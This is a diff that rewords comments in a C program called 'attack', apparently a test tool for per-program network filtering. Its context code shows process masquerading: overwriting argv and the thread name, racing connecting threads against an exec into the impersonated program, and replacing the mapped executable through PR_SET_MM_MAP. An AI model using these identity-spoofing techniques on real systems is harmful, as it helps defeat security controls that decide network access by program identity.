@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * Wants to pass for another program: `attack TRICK ADDRESS PORT [PRETENDED [ADDRESS OF THE OTHER]]`, then connects.
- * Says `connected` or the error, and is the honest program too: `attack plain` does nothing but connect.
+ * Pretends to be the program PRETENDED, and then connects: `attack TRICK ADDRESS PORT [PRETENDED [ITS_ADDRESS]]`.
+ * Prints `connected` or the error. It also serves as the honest program: `attack plain` only connects.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -39,7 +39,7 @@ static int try_connect(void)
 	return failed;
 }
 
-/* What ps and /proc/PID/cmdline show, and the name of the thread. */
+/* Overwrites the arguments, which ps and /proc/PID/cmdline show, and the name of the thread. */
 static void rewrite_arguments(char **argv, const char *pretended)
 {
 	size_t room = 0;
@@ -62,14 +62,14 @@ static void *connect_for_ever(void *unused)
 	return unused;
 }
 
-/* The threads go on to connect up to the very moment in which the other program takes their place. */
+/* The threads go on connecting up to the moment at which the exec ends them. */
 static void race(char *port, char *pretended, char *address)
 {
 	pthread_t thread;
 
 	for (int i = 0; i < 8; i++)
 		pthread_create(&thread, 0, connect_for_ever, 0);
-	while (!has_tried) /* where others have the processors that takes a while */
+	while (!has_tried) /* on a busy machine that takes a while */
 		usleep(1000);
 	usleep(30000);
 	execl(pretended, pretended, "plain", address, port, (char *)0);
@@ -96,7 +96,7 @@ __attribute__((always_inline)) static inline long call(long number, long a, long
 	return result;
 }
 
-/* Runs from memory of its own, since the kernel wants no page of the old executable to be mapped any more. */
+/* Runs from anonymous memory: PR_SET_MM_MAP fails while a page of the old executable is mapped. */
 __attribute__((noinline, noreturn, section(".escape"))) static void escape(struct job *job)
 {
 	long failed, fd;
@@ -113,7 +113,7 @@ __attribute__((noinline, noreturn, section(".escape"))) static void escape(struc
 
 extern char __executable_start, end;
 
-/* Built with -static -no-pie: then all of the executable is mapped from __executable_start to end. */
+/* Built with -static -no-pie, so that all of the executable is mapped from __executable_start to end. */
 static void replace_executable(const char *pretended)
 {
 	char *page = mmap(0, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
